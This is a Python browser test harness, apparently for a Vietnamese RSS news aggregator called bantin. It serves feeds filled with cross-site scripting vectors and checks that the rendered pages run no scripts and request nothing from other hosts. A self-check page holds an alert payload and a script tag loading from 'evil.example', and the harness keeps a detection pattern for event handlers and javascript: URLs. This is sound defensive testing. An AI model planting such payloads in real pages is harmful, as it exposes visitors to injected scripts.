    """Different searches one after the other, then one again and again."""
    words = "tin bản hội nông dân mưa rét đường cầu xã huyện tỉnh trường lớp rừng lúa chè mận thời tiết".split()
    ask = lambda query: bantin.get("search.rss?" + urllib.parse.urlencode({"q": query}))[0]
    queries = [f"{a} {b}" for a in words for b in words[:10]]
    start = time.monotonic()
    statuses = [ask(query) for query in queries]
    figures["a new search, ms"] = round((time.monotonic() - start) / len(queries) * 1000, 2)
    start = time.monotonic()
    for _ in range(200):
        ask("tin")
    figures["a known search, ms"] = round((time.monotonic() - start) / 200 * 1000, 2)
    check(set(statuses) == {200}, f"searches: {set(statuses)}")
    with ThreadPoolExecutor(64) as many:
        flood = list(many.map(ask, (f"{a} {b} {n}" for n in range(2) for a in words for b in words[:10])))
    check(set(flood) <= {200, 503} and 200 in flood, f"a flood of searches: {set(flood)}")
    figures["a flood of searches"] = {status: flood.count(status) for status in sorted(set(flood))}


def proves_itself(browser):
    """A page that does run something, asks another host and cannot be read must be found out."""
    bad = Paper()
    bad.put("/", "text/html", '<!DOCTYPE html><p style="color:#eee">pale</p><svg></svg><script>alert(1)</script>'
                              '<script src="http://evil.example/x.js"></script><div style="width:3000px">wide</div>')
    browser.open(bad.home + "/")
    found, looked = browser.run(FOREIGN), " ".join(browser.run(LOOK)["wrong"])
    check(found["ran"] == ["alert: 1"] and "<SCRIPT>" in found["wrong"], f"this test sees no scripts: {found}")
    check(any("evil.example" in url for _, url in browser.requests()), "this test sees no requests")
    for word in ("overflow", "contrast", "0 main", "0 h1", "without words"):
        check(word in looked, f"this test sees no {word}: {looked}")


def walk_hostile(browser, program, corpus, most, screens):
    proves_itself(browser)
    paper = Paper()
    all_vectors = vectors(corpus, most)
    paper.put("/chu.rss", "application/rss+xml; charset=utf-8", hostile_feed(paper, all_vectors, False))
    paper.put("/lien-ket.rss", "application/rss+xml; charset=utf-8", hostile_feed(paper, all_vectors, True))
    paper.put("/dep.rss", "application/rss+xml; charset=utf-8", calm_feed(paper))
    folder = tempfile.mkdtemp(prefix="bantin-hostile-")
    config = os.path.join(folder, "bantin.toml")
    open(config, "w").write(f"""state-dir = "{folder}/state"
contact = "https://bantin.invalid/test"
[fetch]
allow-networks = ["127.0.0.0/8"]
min-interval = "2s"
per-host-delay = "0s"
[[paper]]
id = "bao-doc"
title = "Báo <b>Độc</b> \\"&"
home = "{paper.home}/"
read-articles = false
content = "full"
item-limit = 2000
section = [
    {{ url = "{paper.home}/chu.rss", every = "1h" }},
    {{ url = "{paper.home}/lien-ket.rss", id = "lien-ket", title = "Liên kết", every = "1h" }},
]
[[paper]]
id = "bao-dep"
title = "Báo Đẹp"
home = "{paper.home}/"
read-articles = false
section = [{{ url = "{paper.home}/dep.rss", every = "2s" }}]
""")
    bantin = Bantin(program, "run", "--config", config)
    try:
        bantin.wait_for("bao-doc/all.json", lambda feed: len(json.loads(feed)["items"]) >= len(all_vectors) // 2)
        bantin.wait_for("bao-dep/all.html", lambda page: page.count("<article") >= 18)
        bantin.wait_for("bao-doc/lien-ket.html", lambda page: page.count("<article") >= 1)
        browser.size(1280)
        browser.scheme("light")
        kept = {path: bantin.get(path)[2] for path in ("bao-doc/all.json",)}
        figures["vectors"] = f"{len(all_vectors)} x 10 fields (title, summary, content, author, category, picture, enclosure, link, guid, search)"
        figures["items made of them"] = len(json.loads(kept["bao-doc/all.json"])["items"])
        pages = ["", "status", "bao-doc/all.html", "bao-doc/lien-ket.html", "bao-doc/all.fragment.html", "bao-doc/lien-ket.fragment.html"]
        slugs = sorted({html.unescape(link) for link in re.findall(r'href="(bao-doc/[^"]+\.html)"', bantin.get("")[2].decode())})
        figures["categories of vectors"] = len(slugs)
        for path in [*pages, *slugs[:40]]:
            unharmed(browser, bantin, path)
        for vector in all_vectors:
            path = "search?" + urllib.parse.urlencode({"q": vector[:190]})
            bantin.wait_for(path, lambda page: "<main" in page)  # a busy machine may answer 503 first
            unharmed(browser, bantin, path, is_search=True)
        for path, feed in kept.items():
            in_a_reader(browser, json.loads(feed))
        for path, label in (("", "papers-index"), ("bao-dep/all.html", "pictures"), ("bao-dep/kinh-te.html", "pictures-category"),
                            ("search?q=nam+la", "papers-search"), ("status", "papers-status")):
            judge(browser, bantin.base + path, label, screens)
        for width in (360, 1280):
            browser.size(width)
            browser.open(bantin.base + "bao-doc/all.html")
            for wrong in browser.run(LOOK)["wrong"]:
                check(not wrong.startswith(("overflow", "contrast", "no ")), f"hostile page at {width} px: {wrong}")
    finally:
        bantin.close()
        shutil.rmtree(folder, ignore_errors=True)


def unharmed(browser, bantin, path, is_search=False):
    browser.open(bantin.base + path)
    found = browser.run(FOREIGN)
    check(not found["wrong"], f"/{path}: foreign markup: {found['wrong']}")
    check(not found["ran"], f"/{path}: ran: {found['ran']}")
    pictures = set(browser.run("[...document.images].map(i => i.src.split('#')[0])"))
    for kind, url in browser.requests():
        meant = url.startswith(bantin.base) or kind == "Image" and url in pictures and not is_search
        check(meant, f"/{path}: asks {kind} {url[:200]}")
        if not url.startswith(bantin.base):
            add("pictures asked of other origins")
    for said in browser.complaints():
        # pictures of other hosts cannot be had here
        if not re.match(r"network: Failed to load resource", said):
            check(False, f"/{path}: {said[:300]}")
    add("hostile pages")


def in_a_reader(browser, feed):
    """The articles' texts as a careless reader would show them: with scripts on and no policy at all."""
    reader = Paper()
    reader.put("/", "text/html; charset=utf-8", '<!DOCTYPE html><link rel="icon" href="data:,"><title>Reader</title><div id="here"></div>')
    browser.open(reader.home + "/")
    contents = [item["content_html"] for item in feed["items"] if item.get("content_html")]
    for start in range(0, len(contents), 100):
        browser.run(f"here.innerHTML = {json.dumps(''.join(f'<div>{text}</div>' for text in contents[start:start + 100]))}; 0")
        browser.run("new Promise(done => setTimeout(done, 150))")
        ran = browser.run("window.__ran")
        check(not ran, f"in a reader: ran: {ran}")
        wrong = browser.run("""[...here.querySelectorAll("*")].flatMap(e => [...e.attributes].filter(a =>
            /^on/i.test(a.name) || /^\\s*(javascript|vbscript|data):/i.test(a.value)).map(a => a.name + "=" + a.value)).concat(
            [...here.querySelectorAll("script, iframe, object, embed, form, style, link, meta, base, svg, math")].map(e => e.tagName))""")
        check(not wrong, f"in a reader: {wrong[:5]}")
    add("contents in a reader", len(contents))


def main():
    arguments = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    arguments.add_argument("--bantin", default="target/release/bantin")
    arguments.add_argument("--corpus", default="../shared/corpus")
    arguments.add_argument("--screens", help="a folder for screenshots")
    arguments.add_argument("--vectors", type=int, default=0, help="so many at most; 0: all")
    arguments.add_argument("--only", choices=("demo", "hostile"))
    given = arguments.parse_args()
    chromium = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if not chromium:
        print("NO BROWSER: there is no chromium here, so the pages were looked at by no browser (Debian: apt-get install chromium)")
        return 0
    if given.screens:
        os.makedirs(given.screens, exist_ok=True)
    browser = Browser(chromium)
    try:
        if given.only != "hostile":
            walk_demo(browser, os.path.abspath(given.bantin), given.screens)
        if given.only != "demo":
            walk_hostile(browser, os.path.abspath(given.bantin), given.corpus, given.vectors, given.screens)
    finally:
        browser.close()
    for name, figure in figures.items():
        print(f"{name}: {figure}")
    print(f"{len(failures)} failures" if failures else "the pages are well")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
